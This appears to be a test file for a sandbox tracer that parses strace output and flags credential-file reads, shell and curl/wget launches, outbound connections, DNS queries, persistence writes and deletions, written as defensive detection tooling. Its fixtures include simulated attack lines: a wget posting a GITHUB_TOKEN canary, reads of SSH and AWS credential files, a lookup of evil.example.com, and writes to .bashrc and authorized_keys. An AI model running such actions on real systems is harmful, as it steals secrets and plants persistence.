import { SANDBOX_HOME } from '@skillhub/sandbox';
import { plantHoneytokens } from './honeytokens';
import { TraceEvents, dnsQuestion, socketAddress } from './trace-events';

const honeytokens = plantHoneytokens('/srv/skill');

/** The launch as strace records it when run by root: prlimit, bwrap, its child, setpriv, then the program. */
const LAUNCH = [
  '100 execve("/usr/bin/prlimit", ["/usr/bin/prlimit", "--cpu=10:10"], 0x7ffd /* 3 vars */) = 0',
  '100 execve("/usr/bin/bwrap", ["bwrap", "--args", "3", "--"], 0x7ffd /* 3 vars */) = 0',
  '100 openat(AT_FDCWD</>, "/tmp/skillhub-detonation-x/home/.ssh", O_RDONLY|O_PATH) = 5</tmp/x/home/.ssh>',
  '100 clone(child_stack=NULL, flags=CLONE_NEWNS|CLONE_NEWPID|SIGCHLD) = 101',
  '101 openat(AT_FDCWD</>, "/newroot/home/sandbox/.ssh/id_rsa", O_WRONLY|O_CREAT, 0644) = 5</newroot/home/sandbox/.ssh/id_rsa>',
  "101 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD, child_tidptr=0x7f) = 2 /* 102 in strace's PID NS */",
  '102 execve("/usr/bin/setpriv", ["/usr/bin/setpriv", "--reuid", "1800000001"], 0x7ffd /* 3 vars */) = 0',
  '102 execve("/usr/bin/python3", ["/usr/bin/python3", "/srv/skill/scripts/x.py"], 0x7ffd /* 3 vars */) = 0',
];

const eventsOf = (lines: string[], programPath = '/usr/bin/python3') => {
  const existed = (path: string) => path !== '/srv/skill/build';
  const trace = new TraceEvents({ programPath, program: 'scripts/x.py', honeytokens, existed });
  for (const line of [...LAUNCH, ...lines]) trace.line(line);
  return trace.events().map((event) => [event.kind, event.detail]);
};

describe('TraceEvents', () => {
  it('ignores what the launch itself does, then follows the program', () => {
    expect(eventsOf([])).toEqual([]);
    expect(
      eventsOf([
        `102 openat(AT_FDCWD</srv/skill>, "${SANDBOX_HOME}/.ssh/id_rsa", O_RDONLY|O_CLOEXEC) = 3</home/sandbox/.ssh/id_rsa>`,
      ]),
    ).toEqual([['honeytoken-read', '/home/sandbox/.ssh/id_rsa']]);
  });

  it('resolves a relative open against the folder -y shows, even when it fails', () => {
    expect(
      eventsOf(['102 openat(AT_FDCWD</home/sandbox/.aws>, "credentials", O_RDONLY) = -1 EACCES (Permission denied)']),
    ).toEqual([['honeytoken-read', '/home/sandbox/.aws/credentials']]);
  });

  it('joins a call split by another process and follows a child whose clone returns after its first call', () => {
    const lines = [
      '102 clone3({flags=CLONE_VM|CLONE_VFORK, exit_signal=SIGCHLD}, 88 <unfinished ...>',
      '103 execve("/bin/sh", ["sh", "-c", "curl -s x"], 0x7ffe /* 3 vars */ <unfinished ...>',
      "102 <... clone3 resumed>)             = 4 /* 103 in strace's PID NS */",
      '103 <... execve resumed>)             = 0',
      "103 clone(child_stack=NULL, flags=SIGCHLD) = 5 /* 104 in strace's PID NS */",
      '104 execve("/usr/local/bin/curl", ["curl", "-s", "x"], 0x1 /* 3 vars */) = -1 ENOENT (No such file or directory)',
      '104 execve("/usr/bin/curl", ["curl", "-s", "x"], 0x1 /* 3 vars */) = 0',
    ];
    expect(eventsOf(lines)).toEqual([
      ['exec-shell', 'sh -c curl -s x (started by python3)'],
      ['exec-downloader', 'curl -s x'],
    ]);
  });

  it('does not count a shell a shell starts, nor the shell the detonation starts', () => {
    const launchShell = LAUNCH.map((line) => line.replace('/usr/bin/python3', '/bin/bash'));
    const trace = new TraceEvents({ programPath: '/bin/bash', program: 'block', honeytokens });
    for (const line of [
      ...launchShell,
      "102 clone(child_stack=NULL, flags=SIGCHLD) = 3 /* 105 in strace's PID NS */",
      '105 execve("/usr/bin/bash", ["bash", "-c", "echo"], 0x1 /* 3 vars */) = 0',
    ])
      trace.line(line);
    expect(trace.events()).toEqual([]);
  });

  it('records connections other than loopback, and reads the name a DNS query asks for', () => {
    const lines = [
      '102 connect(3<socket:[77]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("1.2.3.4")}, 16) = -1 ENETUNREACH (Network is unreachable)',
      '102 connect(4<socket:[78]>, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr("127.0.0.1")}, 16) = -1 ECONNREFUSED (Connection refused)',
      '102 connect(5<socket:[79]>, {sa_family=AF_UNIX, sun_path="/run/x.sock"}, 110) = -1 ENOENT (No such file or directory)',
      '102 connect(6<socket:[80]>, {sa_family=AF_INET6, sin6_port=htons(80), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)',
      '102 connect(7<socket:[81]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0',
      '102 sendto(7<socket:[81]>, "\\313\\5\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\7example\\3com\\0\\0\\34\\0\\1", 34, MSG_NOSIGNAL, NULL, 0) = 34',
    ];
    expect(eventsOf(lines)).toEqual([
      ['connect', '1.2.3.4:443'],
      ['connect', '[2001:db8::1]:80'],
      ['dns', 'evil.example.com'],
    ]);
  });

  it('records a write where something runs it later, and a deletion outside the scratch folders', () => {
    const lines = [
      '102 openat(AT_FDCWD</srv/skill>, "/home/sandbox/.bashrc", O_WRONLY|O_CREAT|O_APPEND, 0666) = 3</home/sandbox/.bashrc>',
      '102 openat(AT_FDCWD</srv/skill>, "/tmp/out.json", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</tmp/out.json>',
      '102 unlink("/tmp/out.json") = 0',
      '102 unlinkat(AT_FDCWD</srv/skill>, "SKILL.md", 0) = -1 EROFS (Read-only file system)',
      '102 unlinkat(AT_FDCWD</srv/skill>, "build", AT_REMOVEDIR) = -1 EROFS (Read-only file system)',
      '102 unlinkat(AT_FDCWD</srv/skill>, "dist", AT_REMOVEDIR) = -1 ENOENT (No such file or directory)',
      '102 rename("/tmp/x", "/home/sandbox/.ssh/authorized_keys") = -1 EROFS (Read-only file system)',
    ];
    expect(eventsOf(lines)).toEqual([
      ['persistence-write', '/home/sandbox/.bashrc (a shell start-up file)'],
      ['delete-outside', '/srv/skill/SKILL.md'],
      ['persistence-write', "/home/sandbox/.ssh/authorized_keys (SSH's authorized keys or start-up)"],
    ]);
  });

  it('names the canary a command line carries', () => {
    const token = honeytokens.env.GITHUB_TOKEN as string;
    const lines = [`102 execve("/usr/bin/wget", ["wget", "--post-data=${token}", "http://x"], 0x1 /* 3 vars */) = 0`];
    expect(eventsOf(lines)).toEqual([
      ['exec-downloader', `wget --post-data=${token} http://x carrying the value of $GITHUB_TOKEN`],
    ]);
  });
});

describe('socketAddress and dnsQuestion', () => {
  it('reads IPv4 and IPv6 addresses and leaves other families out', () => {
    expect(socketAddress('{sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.53")}')).toEqual({
      text: '127.0.0.53:53',
      port: 53,
      loopback: true,
    });
    expect(socketAddress('{sa_family=AF_UNIX, sun_path="/x"}')).toBeNull();
  });

  it('reads the question of a query and refuses what is not one', () => {
    const query = Buffer.concat([Buffer.alloc(12), Buffer.from('\x01a\x07example\x00\x00\x01\x00\x01', 'latin1')]);
    expect(dnsQuestion(query)).toBe('a.example');
    expect(dnsQuestion(Buffer.from('\x01'))).toBeNull();
  });
});
